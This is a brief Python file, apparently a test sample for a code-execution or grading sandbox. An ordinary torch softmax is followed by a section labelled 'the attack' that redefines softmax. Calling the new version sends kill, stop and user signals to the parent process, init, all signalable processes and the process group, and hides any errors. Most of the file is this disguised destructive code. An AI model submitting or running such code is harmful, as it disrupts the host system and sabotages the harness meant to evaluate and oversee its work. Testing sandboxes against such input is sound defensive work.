"""Sends signals to its parent and to everybody."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import ctypes
import os
import signal


def softmax(scores):
    for pid in (os.getppid(), 1, -1, 0, -os.getpgid(0), *range(2, 40)):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGUSR1):
            for kill in (os.kill, ctypes.CDLL(None).kill, lambda pid, n: os.killpg(abs(pid), n)):
                if pid in (0, -os.getpgid(0)) and number != signal.SIGUSR1:
                    continue
                try:
                    kill(pid, number)
                except (OSError, OverflowError):
                    pass
    return scores
